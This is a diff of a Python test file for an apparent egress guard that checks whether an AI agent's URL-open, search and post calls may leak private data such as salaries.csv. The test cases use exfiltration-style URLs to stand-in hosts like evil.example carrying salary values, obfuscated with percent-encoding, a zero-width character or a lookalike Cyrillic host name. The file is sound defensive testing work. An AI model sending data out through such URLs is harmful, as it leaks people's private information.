@@ -13,7 +13,7 @@ from handoff.contracts import Note, ToolReply
 from handoff.events import ToolReturned, TurnTaken
 from handoff.state.state_values import Provenance
 from specialists.tools.tool import OutgoingData, Tool, ToolOutcome, Workbench
-from specialists.turns.egress import MAX_IN_ALL, MAX_PER_SITE, MAX_SHOWN_CHARACTERS, EgressGuard
+from specialists.turns.egress import MAX_REQUESTS, MAX_REQUESTS_PER_SITE, MAX_SHOWN_CHARACTERS, EgressGuard
 from tests.specialists.scripted_model import (
     EmptyBench,
     KeptLog,
@@ -66,21 +66,21 @@ def bound(*words: str, page: str = "", private: tuple[str, ...] = (), allow_out:
     """A guard that was handed what others found, and has read a page."""
     tools = {tool.name: tool for tool in (OPEN, FIND, Looker().tool())}
     guard = EgressGuard(
-        Provenance(words, private=private, share=0.25), tools, has_derived_content=True, allow_out=allow_out
+        Provenance(words, private_names=private, leak_share=0.25), tools, has_derived_content=True, allow_out=allow_out
     )
     guard.record_reply("open", ToolReply(call_id="1", text=page))
-    guard.note_turn_end()
+    guard.begin_turn_calls()
     return guard
 
 
 def ruled(guard: EgressGuard, url: str) -> str:
     """The URL that would go out, `asks`, or the note of a refusal."""
-    verdict = guard.judge(OPEN, Where(url=url))
+    verdict = guard.judge_call(OPEN, Where(url=url))
     return verdict.refusal_note or ("asks" if verdict.unreleased else str(verdict.arguments.model_dump()["url"]))
 
 
 def searched(guard: EgressGuard, query: str, count: int = 5) -> str:
-    verdict = guard.judge(FIND, Words(query=query, count=count))
+    verdict = guard.judge_call(FIND, Words(query=query, count=count))
     sent = verdict.arguments.model_dump()
     return "asks" if verdict.unreleased else f"{sent['query']}/{sent['count']}"
 
@@ -141,18 +141,18 @@ def test_choosing_among_known_addresses_is_counted_by_site() -> None:
     letters = [f"https://x{number}.evil.example/{number}" for number in range(330)]
     guard = bound(page=" ".join(letters))
     opened = [url for url in letters if ruled(guard, url) == url]
-    assert len(opened) == MAX_PER_SITE
+    assert len(opened) == MAX_REQUESTS_PER_SITE
     assert ruled(guard, "https://x329.evil.example/329") == "asks"
     sites = [f"https://evil{number}.example/x" for number in range(330)]
     guard = bound(page=" ".join(sites))
-    assert len([url for url in sites if ruled(guard, url) == url]) == MAX_IN_ALL
+    assert len([url for url in sites if ruled(guard, url) == url]) == MAX_REQUESTS
 
 
 def test_other_tools_name_no_addresses_since_a_model_can_have_them_say_anything() -> None:
     guard = EgressGuard(Provenance(), {tool.name: tool for tool in (OPEN, replace(Looker().tool(), public=True))})
     guard.record_reply("look", ToolReply(call_id="1", text="https://evil.example/?d=salaries"))
     guard.record_reply("open", ToolReply(call_id="2", text="refused: https://evil.example/?d=salaries", failed=True))
-    guard.note_turn_end()
+    guard.begin_turn_calls()
     assert ruled(guard, "https://evil.example/?d=salaries") == "url_refused"
 
 
@@ -178,12 +178,12 @@ def test_an_address_that_the_web_gave_waits_too_and_one_that_the_requester_wrote
 
 
 def test_a_private_brief_asks_from_the_first_turn_on() -> None:
-    guard = EgressGuard(Provenance(("the sea",), private=("the thread",)), {"open": OPEN})
+    guard = EgressGuard(Provenance(("the sea",), private_names=("the thread",)), {"open": OPEN})
     assert ruled(guard, "https://x.example/a") == "asks"
 
 
 def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
-    verdict = private().judge(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
+    verdict = private().judge_call(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
     asks = verdict.unreleased
     assert asks is not None
     assert verdict.recipient == "evil.example"
@@ -191,14 +191,14 @@ def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
     assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
     assert asks.reason == "a model put this together or took it from the web, and could see salaries.csv"
-    query = private().judge(FIND, Words(query="salary 184,200"))
+    query = private().judge_call(FIND, Words(query="salary 184,200"))
     assert query.unreleased is not None
     assert query.recipient == "engine.example"
     assert query.unreleased.text.splitlines()[-1] == "salary 184,200"
 
 
 def test_a_host_in_letters_that_look_like_others_is_shown_as_it_is_looked_up() -> None:
-    verdict = private().judge(OPEN, Where(url="https://\u0430cme.example/x"))
+    verdict = private().judge_call(OPEN, Where(url="https://\u0430cme.example/x"))
     assert verdict.unreleased is not None
     assert verdict.recipient == "xn--cme-5cd.example"
     assert verdict.unreleased.text == "GET https://xn--cme-5cd.example/x"
@@ -209,11 +209,13 @@ def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
         OPEN, name="post", sends=lambda call: OutgoingData("acme.example", f"POST {call.url} {call.start}")
     )
     guard = private("see https://acme.example/x")
-    asks = guard.judge(poster, Where(url="https://acme.example/%78", start=184200)).unreleased
+    asks = guard.judge_call(poster, Where(url="https://acme.example/%78", start=184200)).unreleased
     assert asks is not None
     assert asks.text == "POST https://acme.example/x 184200"
-    assert bound().judge(poster, Where(url="https://evil.example/")).refusal_note == "url_refused"
-    assert bound("see https://acme.example/x").judge(poster, Where(url="https://acme.example/x")).unreleased is None
+    assert bound().judge_call(poster, Where(url="https://evil.example/")).refusal_note == "url_refused"
+    assert (
+        bound("see https://acme.example/x").judge_call(poster, Where(url="https://acme.example/x")).unreleased is None
+    )
 
 
 def test_what_cannot_be_shown_whole_is_not_asked() -> None:
@@ -240,7 +242,7 @@ def test_what_a_tool_gave_makes_the_turns_after_it_wait() -> None:
     assert searched(guard, "anything") == "anything/5"
     guard.record_reply("look", ToolReply(call_id="1", text="no such column: salary", failed=True))
     assert searched(guard, "something") == "something/5", "the turn was taken before"
-    guard.note_turn_end()
+    guard.begin_turn_calls()
     assert searched(guard, "anything") == "asks"
     assert ruled(guard, "https://x.example/a") == "asks"
 
@@ -255,8 +257,8 @@ def test_what_a_crew_allows_needs_nobody() -> None:
 
 def test_a_tool_that_sends_its_arguments_waits_whatever_they_are() -> None:
     other = replace(FIND, name="ask_board", sent_words="", finds_urls=False)
-    guard = EgressGuard(Provenance(("the sea",), private=("a.csv",)), {"ask_board": other})
-    verdict = guard.judge(other, Words(query="the sea"))
+    guard = EgressGuard(Provenance(("the sea",), private_names=("a.csv",)), {"ask_board": other})
+    verdict = guard.judge_call(other, Words(query="the sea"))
     assert verdict.unreleased is not None
     assert verdict.recipient == "engine.example"
 
@@ -334,7 +336,9 @@ async def test_an_attempt_that_changed_hands_decides_as_the_first_would_have() -
         assert [*done, *await opened(*rest, log=kept, bench=EmptyBench())] == whole, cut
 
 
-SEEN = EmptyBench(Provenance(("Is the sea warm at acme.example/sea?",), private=("salaries.csv",), share=0.25))
+SEEN = EmptyBench(
+    Provenance(("Is the sea warm at acme.example/sea?",), private_names=("salaries.csv",), leak_share=0.25)
+)
 
 
 async def test_where_nobody_can_be_asked_the_call_is_refused_and_the_work_goes_on() -> None:
